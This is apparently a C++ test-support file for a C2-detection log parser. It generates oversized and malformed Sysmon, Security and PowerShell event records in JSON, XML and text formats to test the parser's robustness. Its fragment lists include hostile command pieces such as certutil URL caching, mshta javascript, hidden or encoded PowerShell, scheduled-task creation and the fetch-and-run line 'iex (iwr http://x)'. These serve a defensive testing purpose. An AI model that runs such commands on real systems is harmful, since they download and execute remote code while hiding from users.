#include "support/hostile_records.h"

#include <algorithm>

namespace c2watch::testing_support {
namespace {

// `piece` as often as it fits into `bytes`.
std::string repeated(std::string_view piece, std::size_t bytes) {
  std::string out;
  out.reserve(bytes);
  while (out.size() + piece.size() <= bytes) out += piece;
  return out;
}

std::string quoted(std::string_view text) {
  static constexpr char kHex[] = "0123456789abcdef";
  std::string out = "\"";
  for (const char c : text) {
    if (c == '"' || c == '\\') {
      out += {'\\', c};
    } else if (static_cast<unsigned char>(c) < ' ') {
      out += std::string("\\u00") + kHex[c >> 4] + kHex[c & 15];
    } else {
      out += c;
    }
  }
  return out + "\"";
}

using Members = std::vector<std::pair<std::string_view, std::string>>;

std::string json(int event_id, std::string_view channel, const Members& members) {
  std::string out = R"({"EventID":)" + std::to_string(event_id) + R"(,"Channel":)" +
                    quoted(channel) + R"(,"Computer":"WS-01","TimeCreated":"2026-03-02T08:00:00Z")";
  for (const auto& [name, value] : members) out += "," + quoted(name) + ":" + quoted(value);
  return out + "}";
}

constexpr std::string_view kSysmon = "Microsoft-Windows-Sysmon/Operational";
constexpr std::string_view kUtcTime = "2026-03-02 08:00:00.000";
constexpr std::string_view kGuid = "{b59756a9-b239-5f17-5307-000000000400}";

// The same where JSON's escapes count.
std::string in_json(std::string_view piece, std::size_t bytes) {
  const std::size_t written = quoted(piece).size() - 2;
  return repeated(piece, (bytes - std::min<std::size_t>(bytes, 1024)) * piece.size() / written);
}

std::string connection(std::string_view changed, std::string text) {
  Members members = {{"UtcTime", std::string(kUtcTime)},
                     {"ProcessGuid", std::string(kGuid)},
                     {"Image", R"(C:\Users\Public\upd.exe)"},
                     {"User", R"(CORP\u)"},
                     {"Initiated", "true"},
                     {"SourceHostname", "WS-01"},
                     {"SourceIp", "10.0.0.1"},
                     {"DestinationIp", "142.254.39.90"},
                     {"DestinationHostname", "c2.example.net"},
                     {"DestinationPort", "443"}};
  for (auto& [name, value] : members) {
    if (name == changed) value = std::move(text);
  }
  return json(3, kSysmon, members);
}

std::string query(std::string name, std::string results) {
  return json(22, kSysmon,
              {{"UtcTime", std::string(kUtcTime)},
               {"ProcessGuid", std::string(kGuid)},
               {"Image", R"(C:\Users\Public\upd.exe)"},
               {"QueryName", std::move(name)},
               {"QueryStatus", "9003"},
               {"QueryResults", std::move(results)}});
}

std::string process(const std::string& image, const std::string& command_line) {
  return json(1, kSysmon,
              {{"UtcTime", std::string(kUtcTime)},
               {"ProcessGuid", std::string(kGuid)},
               {"Image", image},
               {"CommandLine", command_line},
               {"ParentImage", R"(C:\Windows\System32\svchost.exe)"},
               {"ParentCommandLine", "svchost.exe -k netsvcs -p -s Schedule"}});
}

std::string task(std::string content) {
  return json(
      4698, "Security",
      {{"TaskName", "\\X"}, {"SubjectUserName", "ann"}, {"TaskContent", std::move(content)}});
}

std::string event_xml(std::string_view data) {
  return "<Event><System><EventID>3</EventID><Channel>" + std::string(kSysmon) +
         "</Channel><TimeCreated SystemTime='2026-03-02T08:00:00Z'/></System><EventData>" +
         std::string(data) + "</EventData></Event>";
}

constexpr std::string_view kInCommandLines[] = {"powershell ",
                                                "cmd /c ",
                                                "conhost --headless ",
                                                "forfiles /c ",
                                                "start ",
                                                "start \"\" ",
                                                "a&",
                                                "a|",
                                                "%a",
                                                "%a%",
                                                "%systemroot%",
                                                "-e AAAAAAAA ",
                                                "-enc ",
                                                "-w 1 ",
                                                "-w hidden ",
                                                "\\\"",
                                                "\"",
                                                "'",
                                                "^",
                                                "^\"",
                                                "` d`",
                                                "(",
                                                "((",
                                                "{",
                                                "$(",
                                                ";",
                                                ".exe ",
                                                "x.exe\\",
                                                "\\",
                                                "/",
                                                "..\\",
                                                "wmic create ",
                                                "process call create ",
                                                "i`e`",
                                                "pcalua -a ",
                                                "rundll32 ",
                                                "mshta javascript:",
                                                "certutil -urlcache http:// ",
                                                "http://",
                                                "schtasks /create /tr ",
                                                "/tr \"cmd ",
                                                " ",
                                                "\t",
                                                "iex ",
                                                "[char]65+",
                                                "\xC3\x89"};

constexpr std::string_view kPrograms[] = {
    R"(C:\Windows\System32\cmd.exe)",
    R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)",
    R"(C:\Windows\System32\conhost.exe)",
    R"(C:\Windows\System32\wbem\wmic.exe)",
    R"(C:\Windows\System32\certutil.exe)",
    R"(C:\Windows\System32\schtasks.exe)",
    R"(C:\Windows\System32\forfiles.exe)",
    R"(C:\Windows\System32\rundll32.exe)"};

constexpr std::string_view kInTasks[] = {
    "&amp;",
    "&amp;amp;amp;amp;lt;",
    "&lt;",
    "&amp;lt;",
    "&#60;",
    "&",
    "<a>",
    "<a/>",
    "</a>",
    "<Exec>",
    "<Exec><Command>cmd /c a&amp;b</Command></Exec>",
    "<Exec><Command>cmd</Command><Arguments>/c powershell -w hidden</Arguments></Exec>",
    "<Actions>",
    "<Actions><Exec><Command>",
    "<!-- -->",
    "<!--",
    "<![CDATA[]]>",
    "<?xml ?>",
    "<Task>",
    "&lt;Task",
    "<T a='"};

constexpr std::string_view kInXml[] = {"<Data Name='Image'>",
                                       "<Data>",
                                       "<Data Name='",
                                       "<!-- ",
                                       "<!-- -->",
                                       "&#x41;",
                                       "&amp;",
                                       "&",
                                       "<a b='c' ",
                                       "<a b='c'/>",
                                       "]]>",
                                       "<Event>",
                                       "</Event>",
                                       "<Data Name='Image'><!-- -->x</Data>",
                                       "<Data Name='Image'>a<![CDATA[b]]></Data>",
                                       "<Data Name='x'>y</Data>",
                                       "<a>",
                                       " ",
                                       "<?a?>"};

constexpr std::string_view kInTexts[] = {"Image: ",
                                         "UtcTime:\n",
                                         "\tUtcTime: ",
                                         "User",
                                         "Message=\"\";\n",
                                         "Message=\n",
                                         "Message=\"",
                                         "\";\n",
                                         "MSWinEventLog\t",
                                         "\t",
                                         "EventCode=3\n",
                                         "RecordNumber = 1;\n",
                                         "User = \"\";\n",
                                         "=",
                                         "for the name ",
                                         ", type ",
                                         "=\n",
                                         "{ ",
                                         "{\"",
                                         "<Event",
                                         "<Event ",
                                         "):",
                                         "ScriptBlock ID:",
                                         "Key = \"x\";\n",
                                         "\n",
                                         " ",
                                         "\r\n",
                                         "Process"};

constexpr std::string_view kInJson[] = {"{\"message\":", "[",           "{\"a\":\"\\n\",",
                                        "\"\\u0041",     "{\"Event\":", "{\"a.b.c.d\":1,",
                                        "\"\\\\",        ",",           "\\"};

void add(std::vector<HostileRecord>& out, std::string name,
         std::function<std::string(std::size_t)> make) {
  out.push_back({std::move(name), std::move(make)});
}

std::string list(std::string_view head, std::string_view element, std::string_view tail,
                 std::size_t bytes) {
  std::string out(head);
  out += element;
  while (out.size() + element.size() + tail.size() + 2 <= bytes) out.append(",").append(element);
  return out.append(tail);
}

}  // namespace

std::vector<HostileRecord> hostile_records() {
  std::vector<HostileRecord> out;
  for (const std::string_view piece : {".", ".exe", "cmd.exe", "\\", "%", "a"}) {
    add(out, "Image of " + std::string(piece),
        [piece](std::size_t n) { return connection("Image", in_json(piece, n)); });
  }
  for (const std::string_view name : {"DestinationHostname", "DestinationIp", "SourceHostname",
                                      "User", "DestinationPort", "UtcTime", "ProcessGuid"}) {
    for (const std::string_view piece : {".", ":", "0", "akamai.", "a-", "-", "9.", "{"}) {
      add(out, std::string(name) + " of " + std::string(piece),
          [=](std::size_t n) { return connection(name, in_json(piece, n)); });
    }
  }
  add(out, "QueryName of labels", [](std::size_t n) { return query(in_json("a.", n), "-"); });
  add(out, "QueryResults of addresses",
      [](std::size_t n) { return query("a.example", in_json("type:  5 a.b;::ffff:1.2.3.4;", n)); });
  for (const std::string_view program : kPrograms) {
    for (const std::string_view piece : kInCommandLines) {
      add(out, std::string(program.substr(program.rfind('\\') + 1)) + " " + std::string(piece),
          [=](std::size_t n) {
            return process(std::string(program), std::string(program) + " /c " + in_json(piece, n));
          });
    }
  }
  for (const std::string_view piece : kInTasks) {
    add(out, "Task of " + std::string(piece),
        [piece](std::size_t n) { return task("<Task>" + in_json(piece, n)); });
    add(out, "TaskContent of " + std::string(piece),
        [piece](std::size_t n) { return task(in_json(piece, n)); });
  }
  add(out, "Task as nested objects", [](std::size_t n) {
    return list(R"({"EventID":4698,"Channel":"Security","TimeCreated":"2026-03-02T08:00:00Z",)"
                R"("EventData":{"TaskContent":{"Actions":{"Exec":[)",
                R"({"Command":"cmd","Arguments":"/c <"})", "]}}}}", n);
  });
  for (const std::string_view piece : kInXml) {
    add(out, "XML of " + std::string(piece),
        [piece](std::size_t n) { return event_xml(repeated(piece, n - 512)); });
    add(out, "XML field of " + std::string(piece), [piece](std::size_t n) {
      return event_xml("<Data Name='Image'>" + repeated(piece, n - 512) + "</Data>");
    });
    add(out, "strict XML of " + std::string(piece),
        [piece](std::size_t n) { return event_xml("<!-- -->" + repeated(piece, n - 512)); });
    add(out, "EventData as XML of " + std::string(piece), [piece](std::size_t n) {
      return json(3, kSysmon, {{"EventData", "<EventData>" + in_json(piece, n) + "</EventData>"}});
    });
  }
  for (const std::string_view piece : kInJson) {
    add(out, "JSON of " + std::string(piece),
        [piece](std::size_t n) { return repeated(piece, n); });
    add(out, "JSON in message, of " + std::string(piece), [piece](std::size_t n) {
      return R"({"message":)" + quoted("{" + in_json(piece, n)) + "}";
    });
  }
  add(out, "many names", [](std::size_t n) {
    std::string record = R"({"k":0)";
    for (int i = 0; record.size() + 32 < n; ++i) record += ",\"k" + std::to_string(i) + "\":\"v\"";
    return record + "}";
  });
  add(out, "many dotted names", [](std::size_t n) {
    std::string record = R"({"k":0)";
    for (int i = 0; record.size() + 64 < n; ++i)
      record += ",\"event.Event.Event.k" + std::to_string(i) + R"(":"\n")";
    return record + "}";
  });
  add(out, "one name of many dots", [](std::size_t n) {
    return R"({"EventID":3,")" + repeated("Event.", n - 64) + R"(Image":"a.exe"})";
  });
  for (const int event_id : {1, 3, 22}) {
    for (const std::string_view element : {R"("a")", R"("-")", "1", "null", R"("C:\\a")"}) {
      add(out, "inserts of " + std::string(element) + " in " + std::to_string(event_id),
          [=](std::size_t n) {
            return list(R"({"EventID":)" + std::to_string(event_id) +
                            R"(,"Channel":"x/sysmon","TimeCreated":"2026-03-02T08:00:00Z",)"
                            R"("StringInserts":[)",
                        element, "]}", n);
          });
    }
    // As many as columns, each of them long.
    add(out, "long inserts in " + std::to_string(event_id), [=](std::size_t n) {
      const std::size_t count = event_id == 1 ? 22 : event_id == 3 ? 17 : 7;
      return list(R"({"EventID":)" + std::to_string(event_id) +
                      R"(,"Channel":"x/sysmon","TimeCreated":"2026-03-02T08:00:00Z",)"
                      R"("StringInserts":[)",
                  quoted("\\ab" + repeated("1", n / (count + 1))), "]}", n);
    });
  }
  add(out, "EventData as a list", [](std::size_t n) {
    return list(R"({"EventID":3,"TimeCreated":"2026-03-02T08:00:00Z","EventData":{"Data":[)",
                R"({"Name":"Image","text":"\u0041"})", "]}}", n);
  });
  add(out, "a list of answers", [](std::size_t n) {
    return list(R"({"@timestamp":"2026-03-02T08:00:00Z","event":{"code":22},"dns":{"question":)"
                R"({"name":"a.example"},"resolved_ip":[)",
                R"("203.0.113.9")", "]}}", n);
  });
  for (const std::string_view piece : kInTexts) {
    for (const int event_id : {1, 3, 22}) {
      add(out, "Message of " + std::string(piece) + " in " + std::to_string(event_id),
          [=](std::size_t n) {
            return json(event_id, kSysmon, {{"Message", in_json(piece, n)}});
          });
    }
    add(out, "script's Message of " + std::string(piece), [piece](std::size_t n) {
      return json(4104, "x/PowerShell", {{"Message", in_json(piece, n)}});
    });
    add(out, "lookup's Message of " + std::string(piece), [piece](std::size_t n) {
      return json(3008, "x/DNS-Client", {{"Message", in_json(piece, n)}});
    });
    add(out, "task's Message of " + std::string(piece), [piece](std::size_t n) {
      return json(4698, "Security", {{"Message", in_json(piece, n)}});
    });
    add(out, "log of " + std::string(piece),
        [piece](std::size_t n) { return R"({"log":)" + quoted(in_json(piece, n)) + "}"; });
    add(out, "text of " + std::string(piece),
        [piece](std::size_t n) { return repeated(piece, n); });
    add(out, "Snare's text of " + std::string(piece), [piece](std::size_t n) {
      return "<14>x MSWinEventLog\t1\t" + std::string(kSysmon) +
             "\t7\tx\t3\tMicrosoft-Windows-Sysmon\tx\tx\tx\tWS-01\tx\t\t" +
             repeated(piece, n - 256) + "\t7";
    });
    add(out, "Sumo's text of " + std::string(piece), [piece](std::size_t n) {
      return "instance of Win32_NTLogEvent\n{\n\tEventCode = 3;\n\tLogfile = \"" +
             std::string(kSysmon) + "\";\n\tMessage = \"" + repeated(piece, n - 256) +
             "\";\n\tTimeGenerated = \"20260302080000.000000-000\";\n};\n";
    });
    add(out, "key=value text of " + std::string(piece), [piece](std::size_t n) {
      return "EventCode=3\nComputer=WS-01\n" + repeated(piece, n - 64);
    });
  }
  add(out, "script block", [](std::size_t n) {
    return json(4104, "x/PowerShell", {{"ScriptBlockText", in_json("iex (iwr http://x) ", n)}});
  });
  add(out, "a number of digits", [](std::size_t n) {
    return R"({"EventID":3,"Image":"a","UtcTime":"2026-03-02 08:00:00","EventRecordID":)" +
           std::string(n - 128, '1') + "e5}";
  });
  return out;
}

std::vector<HostileFieldRecord> hostile_field_records() {
  std::vector<HostileFieldRecord> out;
  const auto many = [&](std::string name, std::string field, std::string value) {
    out.push_back(
        {std::move(name), [=](std::size_t n) {
           HostileFields fields = {{"EventID", "22"}, {"TimeCreated", "2026-03-02T08:00:00Z"}};
           const std::size_t each = field.size() + value.size();
           for (std::size_t used = 64; used + each + 8 < n; used += each)
             fields.emplace_back(field, value);
           return fields;
         }});
  };
  many("many unknown fields", "k", "v");
  many("many dotted fields", "Event.Event.Event.Event.x", "v");
  many("many inserts", "StringInserts", "1");
  many("many names of elements", "EventData.Data.Name", "Image");
  many("many texts of elements", "EventData.Data.text", "Image");
  many("many answers", "dns.resolved_ip", "203.0.113.9");
  many("many escapes", "message", "\xC3\x89");
  out.push_back({"prefixes in turn", [](std::size_t n) {
                   HostileFields fields = {{"EventID", "22"}};
                   for (std::size_t used = 64; used + 64 < n; used += 40) {
                     fields.emplace_back("Event.Event.EventData.a", "b");
                     fields.emplace_back("winlog.event_data.a", "b");
                   }
                   return fields;
                 }});
  out.push_back(
      {"one name of many dots", [](std::size_t n) {
         return HostileFields{{"EventID", "3"}, {repeated("Event.", n - 64) + "Image", "a"}};
       }});
  return out;
}

}  // namespace c2watch::testing_support
